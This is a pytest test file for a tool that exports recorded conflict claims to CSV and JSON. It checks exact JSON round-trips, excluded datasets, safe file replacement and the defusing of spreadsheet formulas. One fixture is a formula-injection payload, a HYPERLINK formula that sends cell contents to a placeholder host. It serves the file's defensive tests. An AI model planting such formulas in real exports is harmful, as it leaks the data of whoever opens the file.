"""Files that leave: exact in JSON, harmless in a spreadsheet, and without what must not be passed on."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from marsad.errors import MissingItem, UsageError
from marsad.export import Exported, export_claims
from marsad.export.cells import cell, neutral
from marsad.model import Actor, Document, Figure, Number, Period, Place, Quote, Voice
from marsad.model.form import claim_from_json, document_to_json
from marsad.model.schemas import CLAIMS, claim_to_row

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"مرصد")'
PAGE = Document(text=FORMULA, url="https://example.org/1", title=FORMULA, label="001", language="ar")
RELEASE = Document(text="release", dataset="ACLED")


def claim(document: Document, **changes: object) -> Figure:
    values: dict[str, object] = {
        "id": f"{document.id}-a",
        "document": document.id,
        "quote": Quote(start=0, end=len(document.text), text=document.text),
        "number": Number(start=0, end=2, text="-3", low=-3.0, high=2.5),
        "measure": "attacks",
        "group": Actor(id="islamic-state", name="Islamic State", text="+it"),
        "place": Place(id="geonames:99237", name="العراق", country="IQ", countries=("IQ", "SY"), latitude=-33.5),
        "period": Period(start=dt.date(2019, 9, 18), end=None, text="@since"),
        "attribution": (Voice(id="monitor", name="A Monitor", kind="monitor"),),
        "self_claimed": False,
        "modality": "reported",
        "confidence": 0.9,
        "coder": "rules/en 0.1",
    }
    return Figure(**(values | changes))  # type: ignore[arg-type]


def view(*documents: Document) -> pa.Table:
    """The claims of the documents as the ledger shows them, as far as export reads it."""
    now = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)
    rows = [claim_to_row(claim(item)) | {"recorded_at": now, "dataset": item.dataset} for item in documents]
    return pa.Table.from_pylist(rows, schema=CLAIMS.append(pa.field("dataset", pa.string())))


def rows_of(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_csv_opens_in_a_spreadsheet_with_its_letters_and_without_formulas(tmp_path: Path) -> None:
    path = tmp_path / "claims.csv"
    assert export_claims(view(PAGE), [PAGE], path, "csv") == Exported(claims=1, left_out=0)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    row = rows_of(path)[0]
    expected = {"quote_text": "'" + FORMULA, "group_text": "'+it", "period_text": "'@since", "number_text": "'-3"}
    expected |= {"place_name": "العراق", "low": "-3", "high": "2.5", "latitude": "-33.5", "countries": "IQ; SY"}
    expected |= {"period_start": "2019-09-18", "period_end": "", "self_claimed": "false", "killed": ""}
    expected |= {"recorded_at": "2026-01-02T03:04:05+00:00"}
    assert {name: row[name] for name in expected} == expected


def test_json_gives_claims_back_exactly_and_no_whole_page(tmp_path: Path) -> None:
    path = tmp_path / "claims.json"
    uncited = Document(text="nobody cites this")
    export_claims(view(PAGE), [PAGE, uncited], path, "json")
    value = json.loads(path.read_text(encoding="utf-8"))
    assert [claim_from_json(item) for item in value["claims"]] == [claim(PAGE)]
    stated = {key: item for key, item in document_to_json(PAGE).items() if key != "text"}
    assert value["documents"] == [stated | {"document": PAGE.id, "label": "001", "dataset": None}]


@pytest.mark.parametrize("format", ["csv", "json"])
def test_an_excluded_dataset_never_leaves(format: str) -> None:
    stream = io.StringIO()
    gone = export_claims(view(PAGE, RELEASE), [PAGE, RELEASE], stream, format, excluded={"acled"})  # type: ignore[arg-type]
    assert gone == Exported(claims=1, left_out=1)
    assert RELEASE.id not in stream.getvalue()
    assert PAGE.id in stream.getvalue()


@pytest.mark.parametrize("format", ["csv", "json"])
def test_nothing_to_say_is_still_a_file(format: str) -> None:
    stream = io.StringIO()
    export_claims(view(), [], stream, format)  # type: ignore[arg-type]
    if format == "json":
        assert json.loads(stream.getvalue()) == {"documents": [], "claims": []}
    else:
        assert stream.getvalue().startswith("\ufeffid,kind,document")


def test_a_failed_export_leaves_the_older_file(tmp_path: Path) -> None:
    path = tmp_path / "claims.json"
    path.write_text("older")
    broken = view(PAGE).set_column(CLAIMS.get_field_index("attribution"), "attribution", pa.array(["{"]))
    with pytest.raises(json.JSONDecodeError):
        export_claims(broken, [PAGE], path, "json")
    assert path.read_text() == "older"
    assert list(tmp_path.iterdir()) == [path]


def test_a_path_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    with pytest.raises(MissingItem, match="there is no folder"):
        export_claims(view(), [], tmp_path / "none" / "claims.csv", "csv")
    with pytest.raises(UsageError, match="a folder has that name"):
        export_claims(view(), [], tmp_path, "csv")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", '"=', "\u200f=", "＝", "＠", "\t1"])
def test_no_cell_begins_a_formula(start: str) -> None:
    assert neutral(start + "1+1").startswith("'")


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_no_cell_begins_a_formula_for_readers_with_another_separator(separator: str) -> None:
    assert neutral(f"killed{separator}=1+1") == f"killed{separator}'=1+1"


@given(st.text(st.characters(exclude_characters="=+-@＝＋－＠\t\r\n")))
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@given(st.text(st.sampled_from("=+-@ \t\r\n;\"'a\u200f")))
def test_whatever_a_page_says_no_line_of_it_computes(text: str) -> None:
    for separator in (";", "\t", "\n", "\r"):
        for part in neutral(text).split(separator):
            assert not part.lstrip(' \t\r\n"\u200f').startswith(("=", "+", "-", "@"))
